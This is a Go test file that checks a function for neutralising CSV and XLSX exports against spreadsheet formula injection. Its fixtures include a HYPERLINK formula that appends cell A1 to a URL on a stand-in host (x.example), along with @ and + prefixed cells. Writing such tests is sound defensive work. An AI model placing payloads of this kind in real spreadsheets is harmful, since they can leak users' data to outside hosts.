package tabular_test

import (
	"bytes"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"github.com/connectparts/portal/internal/tabular"
)

func TestWriteNeutralisedCSV(t *testing.T) {
	in := cp1252(t, "Código;Descrição;Preço\r\nPA-1;\"=HYPERLINK(\"\"http://x.example/?\"\"&A1;\"\"Clique\"\")\";12,50\r\nPA-2;@SUM(1+1);-3\r\n;;\r\n")
	var out bytes.Buffer
	if err := tabular.WriteNeutralised(bytes.NewReader(in), int64(len(in)), &out); err != nil {
		t.Fatal(err)
	}
	want := "\uFEFFCódigo;Descrição;Preço\r\nPA-1;\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1;\"\"Clique\"\")\";12,50\r\nPA-2;'@SUM(1+1);-3\r\n;;\r\n"
	if out.String() != want {
		t.Fatalf("neutralised copy:\n%q\nwant\n%q", out.String(), want)
	}
}

func TestWriteNeutralisedXLSX(t *testing.T) {
	in := xlsxBytes(t, func(f *excelize.File, sh string) {
		set(t, f, sh, "A1", "Código")
		set(t, f, sh, "B1", "Link")
		set(t, f, sh, "A2", "PA-1")
		if err := f.SetCellFormula(sh, "B2", `HYPERLINK("http://x.example/","Clique")`); err != nil {
			t.Fatal(err)
		}
		set(t, f, sh, "A3", "+55 11 5555-0000")
	})
	var out bytes.Buffer
	if err := tabular.WriteNeutralised(bytes.NewReader(in), int64(len(in)), &out); err != nil {
		t.Fatal(err)
	}
	got := out.String()
	if !strings.HasPrefix(got, "\uFEFFCódigo;Link\r\nPA-1;") || !strings.Contains(got, "'+55 11 5555-0000") {
		t.Fatalf("neutralised copy: %q", got)
	}
	for _, line := range strings.Split(got, "\r\n") {
		for _, cell := range strings.Split(line, ";") {
			if cell != "" && strings.ContainsRune("=+@", rune(cell[0])) {
				t.Fatalf("cell %q can still run as a formula in %q", cell, got)
			}
		}
	}
}
